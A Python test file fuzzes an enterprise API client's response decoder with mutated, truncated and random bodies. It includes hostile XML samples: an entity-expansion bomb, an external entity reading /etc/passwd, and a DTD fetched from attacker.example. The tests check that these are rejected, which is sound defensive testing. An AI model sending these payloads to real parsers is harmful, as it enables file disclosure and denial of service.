"""Hostile and broken bodies: decoding gives a model or ResponseDecodeError, never another
exception, a hang or runaway memory. Mutations start from the real fixtures."""

from __future__ import annotations

import contextlib
import json
import os
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enterprise_async._generated import operations
from enterprise_async._generated.conversion import CONVERSION
from enterprise_async._response.answer import Answer
from enterprise_async._response.responses import RawResponse
from enterprise_async._utils.xml import render_drf_xml
from enterprise_async.errors import ResponseDecodeError
from tests.fixtures import json_fixture

# Each fixture and an operation whose success body it is.
CASES = {
    "allocation_result": (operations.POLICIES_ALLOCATE, 202),
    "policy_page": (operations.POLICIES_LIST, 200),
    "assignment_page": (operations.ASSIGNMENTS_LIST, 200),
    "subscription_plan_page": (operations.SUBSCRIPTIONS_LIST, 200),
    "license_assignment_result": (operations.SUBSCRIPTIONS_ASSIGN_LICENSES, 200),
    "bulk_revoke_result": (operations.SUBSCRIPTIONS_BULK_REVOKE, 207),
    "bulk_enrollment_job": (operations.ENROLLMENTS_BULK_ENROLL, 201),
    "catalog_page": (operations.CATALOGS_LIST, 200),
    "catalog_contents_page": (operations.CATALOGS_CONTENTS, 200),
    "course": (operations.CATALOGS_COURSE, 200),
    "course_run": (operations.CATALOGS_COURSE_RUN, 200),
    "program": (operations.CATALOGS_PROGRAM, 200),
    "learner_summary_list": (operations.LEARNER_SUMMARY_LIST, 200),
}
# A deeper search: ENTERPRISE_FUZZ_EXAMPLES=5000 pytest tests/response/test_hostile_bodies.py
EXAMPLES = int(os.environ.get("ENTERPRISE_FUZZ_EXAMPLES", "60"))
FUZZ = settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)


def decode(name: str, body: bytes, content_type: str) -> None:
    operation, status = CASES[name]
    response = RawResponse(status, "OK", {"Content-Type": content_type}, body, operation.method, "/fuzz")
    with contextlib.suppress(ResponseDecodeError):
        Answer(operation, response, CONVERSION).result()


def paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix]
    if isinstance(value, dict):
        for key, item in value.items():
            found.extend(paths(item, (*prefix, key)))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found.extend(paths(item, (*prefix, index)))
    return found


def replaced(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    head, *rest = path
    copy = list(document) if isinstance(document, list) else dict(document)
    copy[head] = replaced(document[head], tuple(rest), value)
    return copy


@st.composite
def mutated_documents(draw: st.DrawFn) -> tuple[str, Any]:
    name = draw(st.sampled_from(sorted(CASES)))
    document = json_fixture(name)
    for _ in range(draw(st.integers(1, 4))):
        path = draw(st.sampled_from(paths(document)))
        document = replaced(document, path, draw(json_values))
    return name, document


@FUZZ
@given(mutated_documents())
def test_mutated_json_decodes_or_raises_decode_error(case: tuple[str, Any]) -> None:
    name, document = case
    decode(name, json.dumps(document).encode(), "application/json")


@pytest.mark.parametrize("value", [["AssignedLearnerCreditAccessPolicy"], {"name": "x"}, 3, True])
def test_a_discriminator_that_is_not_text_decodes_or_raises_decode_error(value: Any) -> None:
    """A policy's ``policy_type`` sent as an array or an object names no type: the listing decodes
    (the value kept as sent, noted) or raises a decode error, never a ``TypeError``."""
    document = json_fixture("policy_page")
    document = replaced(document, ("results", 0, "policy_type"), value)
    decode("policy_page", json.dumps(document).encode(), "application/json")


@FUZZ
@given(mutated_documents())
def test_mutated_xml_decodes_or_raises_decode_error(case: tuple[str, Any]) -> None:
    name, document = case
    try:
        body = render_drf_xml(document)
    except (TypeError, ValueError):  # keys that cannot be XML tags are not a body a server sends
        return
    decode(name, body, "application/xml")


@FUZZ
@given(st.sampled_from(sorted(CASES)), st.data())
def test_truncated_bodies_raise_decode_error_or_decode(name: str, data: st.DataObject) -> None:
    for body, content_type in (
        (json.dumps(json_fixture(name)).encode(), "application/json"),
        (render_drf_xml(json_fixture(name)), "application/xml"),
    ):
        cut = data.draw(st.integers(0, len(body) - 1))
        decode(name, body[:cut], content_type)


@FUZZ
@given(st.sampled_from(sorted(CASES)), st.binary(max_size=200))
def test_random_bytes_raise_decode_error_or_decode(name: str, body: bytes) -> None:
    decode(name, body, "application/json")
    decode(name, body, "application/xml")
    decode(name, body, "")


@FUZZ
@given(st.sampled_from(sorted(CASES)), st.data())
def test_bytes_flipped_in_xml_raise_decode_error_or_decode(name: str, data: st.DataObject) -> None:
    body = bytearray(render_drf_xml(json_fixture(name)))
    for _ in range(data.draw(st.integers(1, 5))):
        body[data.draw(st.integers(0, len(body) - 1))] = data.draw(st.integers(0, 255))
    decode(name, bytes(body), "application/xml")


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><root><title>&d;</title></root>'
)
EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><root><title>&x;</title></root>'
EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><root><title>x</title></root>'
)


@pytest.mark.parametrize("body", [LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_xml_entities_are_never_expanded(body: bytes) -> None:
    with pytest.raises(ResponseDecodeError, match="document type declaration"):
        Answer(
            operations.CATALOGS_COURSE,
            RawResponse(200, "OK", {"Content-Type": "application/xml"}, body, "GET", "/course"),
            CONVERSION,
        ).result()


def test_deeply_nested_json_raises_decode_error() -> None:
    body = b"[" * 100_000 + b"]" * 100_000
    with pytest.raises(ResponseDecodeError):
        Answer(
            operations.CATALOGS_COURSE,
            RawResponse(200, "OK", {"Content-Type": "application/json"}, body, "GET", "/course"),
            CONVERSION,
        ).result()


def test_deeply_nested_xml_in_a_free_form_field_decodes_without_recursion_errors() -> None:
    depth = 5000
    body = b"<root><video>" + b"<a>" * depth + b"x" + b"</a>" * depth + b"</video></root>"
    decode("course", body, "application/xml")


def read_course(body: bytes) -> Any:
    return Answer(
        operations.CATALOGS_COURSE,
        RawResponse(200, "OK", {"Content-Type": "application/json"}, body, "GET", "/course"),
        CONVERSION,
    ).result()


@pytest.mark.parametrize("value", ["1e300", "-1e300", str(10**30)])
def test_absurd_timestamps_are_kept_as_sent(value: str) -> None:
    course = read_course(b'{"key": "k", "modified": ' + value.encode() + b"}")
    assert course.modified == float(value)


def test_a_json_number_out_of_range_raises_decode_error() -> None:
    with pytest.raises(ResponseDecodeError):
        read_course(b'{"modified": 1e999}')


@pytest.mark.parametrize("digits", [5000, 100_000])
def test_absurdly_long_numbers_are_kept_as_sent(digits: int) -> None:
    course = read_course(b'{"key": "k", "enrollment_count": "' + b"9" * digits + b'"}')
    assert course.enrollment_count == "9" * digits
